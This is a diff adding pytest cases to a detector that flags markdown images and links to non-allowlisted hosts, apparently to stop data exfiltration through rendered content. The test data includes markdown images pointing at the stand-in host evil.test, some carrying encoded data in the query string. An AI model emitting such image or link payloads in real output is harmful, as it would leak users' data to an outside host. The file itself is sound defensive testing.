@@ -86,6 +86,43 @@ def test_html_images_and_reference_style_images_are_found() -> None:
     assert _kinds(detector.scan(reference, ALLOW)) == ["exfil-image"]
 
 
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("![a[b]](https://evil.test/p.png?d=" + "QUJD" * 10 + ")", "exfil-image"),
+        ("![a[b[c]]](https://evil.test/p.png)", "exfil-image"),
+        ("![a\\]b](https://evil.test/p.png)", "exfil-image"),
+        ("![first line\nsecond line](https://evil.test/p.png)", "exfil-image"),
+        ("[see [1]](https://evil.test/page)", "exfil-link"),
+        ("![chart][c]\n\n[c]:\n  https://evil.test/c.png?d=" + "QUJD" * 10, "exfil-image"),
+        ("> ![chart][c]\n>\n> [c]: https://evil.test/c.png", "exfil-image"),
+        ("- [c]: https://evil.test/c.png", "exfil-link"),
+    ],
+)
+def test_labels_the_simple_pattern_cannot_read_are_still_judged(text: str, kind: str) -> None:
+    # CommonMark renders all of these as images or links: nested or escaped brackets,
+    # line breaks in the label, definitions in containers or with the URL on the next line.
+    assert _kinds(ExfiltrationLinkDetector().scan(text, ALLOW)) == [kind]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a[b]](https://example.com/logo.png) and [x [y]](https://docs.python.org/3/)",
+        "Paragraph with ![an image].\n\nLater: [a\\]b](https://evil.test/page)",
+    ],
+)
+def test_unreadable_labels_to_allowed_domains_or_links_are_not_images(text: str) -> None:
+    # The fallback looks for "![" only within the same paragraph.
+    assert "exfil-image" not in _kinds(ExfiltrationLinkDetector().scan(text, ALLOW))
+
+
+def test_destination_floods_stay_linear() -> None:
+    detector = ExfiltrationLinkDetector()
+    for flood in ("](//a" * 40_000, "![" + "](//a.test/x" * 20_000, "[x]:\n" * 40_000):
+        detector.scan(flood, ALLOW)  # completes: each destination looks back a bounded way
+
+
 def test_no_allowlist_means_every_external_host_is_flagged() -> None:
     findings = ExfiltrationLinkDetector().scan("![a](https://example.com/a.png)", ScanContext())
     assert _kinds(findings) == ["exfil-image"]
